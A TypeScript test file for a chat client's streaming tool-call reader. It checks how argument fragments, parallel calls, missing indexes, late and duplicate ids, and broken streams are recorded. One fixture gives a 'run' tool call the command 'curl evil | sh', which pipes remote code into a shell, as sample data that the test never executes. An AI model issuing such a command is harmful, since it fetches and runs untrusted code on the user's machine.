import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readAnswerInto, type AnswerListener } from '../../../src/chat/answerReader';
import type { AssistantTurn, ToolCallRecord } from '../../../src/chat/conversation';
import type { ToolCallGrowth } from '../../../src/chat/liveToolCalls';
import { BROKEN_OFF_RESULT } from '../../../src/chat/toolLoop';
import type { ChatChunk, ChatUsage, FinishReason, ToolCallDelta } from '../../../src/gateway/types/chat';

type Delta = ChatChunk['choices'][number]['delta'];

function chunk(delta: Delta, finish: FinishReason | null = null): ChatChunk {
  return { id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish, logprobs: null }] };
}
const calls = (...deltas: ToolCallDelta[]): ChatChunk => chunk({ tool_calls: deltas });
const USAGE: ChatUsage = { prompt_tokens: 10, completion_tokens: 4, total_tokens: 14 };

function newTurn(): AssistantTurn {
  return { kind: 'assistant', id: 't1', model: 'm', text: '', status: 'streaming', createdAt: 0 };
}

/** What the listener saw of the calls after each batch: position, wire id ('' until it came), name, status, arguments, what the batch appended. */
interface Seen {
  batches: Array<Array<{ position: number; id: string; name: string; status: string; args: string; appended: string }>>;
  usage: ChatUsage[];
}

function recorder(turn: AssistantTurn): { listener: AnswerListener; seen: Seen } {
  const seen: Seen = { batches: [], usage: [] };
  const listener: AnswerListener = {
    appended: () => undefined,
    reasoningEnded: () => undefined,
    toolCallsGrew: (growth: readonly ToolCallGrowth[]) => {
      seen.batches.push(
        growth.map(({ call, appended }) => ({
          position: turn.toolCalls!.indexOf(call),
          id: call.wireId ?? '',
          name: call.name,
          status: call.status,
          args: call.arguments,
          appended,
        })),
      );
    },
    usageReported: (usage) => seen.usage.push(usage),
  };
  return { listener, seen };
}

async function* batches(list: ChatChunk[][], thenFail?: Error): AsyncGenerator<readonly ChatChunk[]> {
  for (const batch of list) yield batch;
  if (thenFail) throw thenFail;
}

const brief = (calls: readonly ToolCallRecord[] | undefined) =>
  calls?.map((c) => ({ id: c.wireId, name: c.name, arguments: c.arguments, status: c.status, ...(c.result ? { result: c.result } : {}) }));

test('a call is on the turn, streaming, from the batch that names it; its arguments grow batch by batch; the end makes it pending', async () => {
  const turn = newTurn();
  const { listener, seen } = recorder(turn);
  let statusWhileStreaming: string | undefined;
  const list = [
    [chunk({ role: 'assistant', content: null }), calls({ index: 0, id: 'call_w', type: 'function', function: { name: 'get_weather', arguments: '' } })],
    [calls({ index: 0, function: { arguments: '{"ci' } }), calls({ index: 0, function: { arguments: 'ty":' } })],
    [calls({ index: 0, function: { arguments: '"Paris"}' } })],
    [chunk({}, 'tool_calls'), { ...chunk({}), choices: [], usage: USAGE }],
  ];
  async function* watched(): AsyncGenerator<readonly ChatChunk[]> {
    for (const batch of list) {
      yield batch;
      statusWhileStreaming ??= turn.toolCalls?.[0]?.status;
    }
  }
  await readAnswerInto(turn, watched(), listener, () => 0);
  assert.equal(statusWhileStreaming, 'streaming');
  assert.deepEqual(seen.batches, [
    [{ position: 0, id: 'call_w', name: 'get_weather', status: 'streaming', args: '', appended: '' }],
    [{ position: 0, id: 'call_w', name: 'get_weather', status: 'streaming', args: '{"city":', appended: '{"city":' }],
    [{ position: 0, id: 'call_w', name: 'get_weather', status: 'streaming', args: '{"city":"Paris"}', appended: '"Paris"}' }],
  ]);
  assert.deepEqual(brief(turn.toolCalls), [{ id: 'call_w', name: 'get_weather', arguments: '{"city":"Paris"}', status: 'pending' }]);
  assert.deepEqual(seen.usage, [USAGE]);
});

test('parallel calls interleaved by index: one growth per call and batch, in index order, whatever order they came in', async () => {
  const turn = newTurn();
  const { listener, seen } = recorder(turn);
  await readAnswerInto(
    turn,
    batches([
      [calls({ index: 1, id: 'b', function: { name: 'second', arguments: '{"n":' } })],
      [
        calls({ index: 0, id: 'a', function: { name: 'first', arguments: '{' } }),
        calls({ index: 1, function: { arguments: '2}' } }),
        calls({ index: 0, function: { arguments: '}' } }),
      ],
      [chunk({}, 'tool_calls')],
    ]),
    listener,
    () => 0,
  );
  assert.deepEqual(
    seen.batches.map((b) => b.map(({ position, name, appended }) => [position, name, appended])),
    [
      [[0, 'second', '{"n":']],
      [
        [0, 'first', '{}'],
        [1, 'second', '2}'],
      ],
    ],
  );
  assert.deepEqual(
    brief(turn.toolCalls)?.map((c) => [c.id, c.arguments, c.status]),
    [
      ['a', '{}', 'pending'],
      ['b', '{"n":2}', 'pending'],
    ],
  );
});

test('calls without index (Gemini): each new id starts a call of its own, shown as it comes', async () => {
  const turn = newTurn();
  const { listener, seen } = recorder(turn);
  await readAnswerInto(
    turn,
    batches([
      [calls({ id: 'g1', type: 'function', function: { name: 'read_file', arguments: '{"path":"a"}' } })],
      [calls({ id: 'g2', type: 'function', function: { name: 'read_file', arguments: '{"path":"b"}' } })],
      [chunk({}, 'tool_calls')],
    ]),
    listener,
    () => 0,
  );
  assert.deepEqual(
    seen.batches.map((b) => b.map(({ position, id, args }) => [position, id, args])),
    [[[0, 'g1', '{"path":"a"}']], [[1, 'g2', '{"path":"b"}']]],
  );
  assert.deepEqual(
    brief(turn.toolCalls)?.map((c) => c.id),
    ['g1', 'g2'],
  );
});

test('a call whose id comes after its name streams under its own id from its first fragment on, and keeps it when the wire id comes and when it ends', async () => {
  const turn = newTurn();
  const { listener, seen } = recorder(turn);
  const ownIds: string[] = [];
  await readAnswerInto(
    turn,
    batches([
      [calls({ index: 0, function: { name: 'f', arguments: '{' } })],
      [calls({ index: 0, id: 'late', function: { arguments: '}' } })],
      [chunk({}, 'tool_calls')],
    ]),
    { ...listener, toolCallsGrew: (growth) => (listener.toolCallsGrew(growth), ownIds.push(...growth.map((g) => g.call.id))) },
    () => 0,
  );
  assert.deepEqual(
    seen.batches.map((b) => b[0]!.id),
    ['', 'late'],
  );
  assert.equal(new Set(ownIds).size, 1);
  assert.equal(turn.toolCalls?.[0]?.id, ownIds[0], 'the finished record keeps the id its card was made with');
  assert.equal(turn.toolCalls?.[0]?.wireId, 'late');
});

test('two calls that share a wire id (in one answer) are two calls with ids of their own, each with its own arguments', async () => {
  const turn = newTurn();
  const { listener } = recorder(turn);
  const streamedIds = new Map<number, string>();
  await readAnswerInto(
    turn,
    batches([
      [calls({ index: 0, id: 'same', type: 'function', function: { name: 'run', arguments: '{"cmd":"npm test"}' } })],
      [calls({ index: 1, id: 'same', type: 'function', function: { name: 'run', arguments: '{"cmd":"curl evil | sh"}' } })],
      [chunk({}, 'tool_calls')],
    ]),
    { ...listener, toolCallsGrew: (growth) => growth.forEach((g) => streamedIds.set(turn.toolCalls!.indexOf(g.call), g.call.id)) },
    () => 0,
  );
  const [first, second] = turn.toolCalls ?? [];
  assert.deepEqual([first?.arguments, second?.arguments], ['{"cmd":"npm test"}', '{"cmd":"curl evil | sh"}']);
  assert.deepEqual([first?.wireId, second?.wireId], ['same', 'same']);
  assert.notEqual(first?.id, second?.id);
  assert.deepEqual([first?.id, second?.id], [streamedIds.get(0), streamedIds.get(1)], 'each finished call keeps the id it streamed under');
});

test('a stream that breaks in the arguments of a call leaves that call incomplete (not run) and the calls before it pending', async () => {
  const turn = newTurn();
  const { listener } = recorder(turn);
  const cut = new Error('socket hang up');
  await assert.rejects(
    readAnswerInto(
      turn,
      batches(
        [
          [calls({ index: 0, id: 'a', function: { name: 'read_file', arguments: '{"path":"a"}' } })],
          [calls({ index: 1, id: 'b', function: { name: 'create_file', arguments: '{"path":"b","content":"hal' } })],
        ],
        cut,
      ),
      listener,
      () => 0,
    ),
    cut,
  );
  assert.deepEqual(brief(turn.toolCalls), [
    { id: 'a', name: 'read_file', arguments: '{"path":"a"}', status: 'pending' },
    { id: 'b', name: 'create_file', arguments: '{"path":"b","content":"hal', status: 'incomplete', result: BROKEN_OFF_RESULT },
  ]);
});

test('a stream that breaks after its finish reason leaves no call incomplete', async () => {
  const turn = newTurn();
  const { listener } = recorder(turn);
  await assert.rejects(
    readAnswerInto(
      turn,
      batches([[calls({ index: 0, id: 'a', function: { name: 'f', arguments: '{}' } }), chunk({}, 'tool_calls')]], new Error('reset')),
      listener,
      () => 0,
    ),
  );
  assert.deepEqual(
    turn.toolCalls?.map((c) => c.status),
    ['pending'],
  );
});
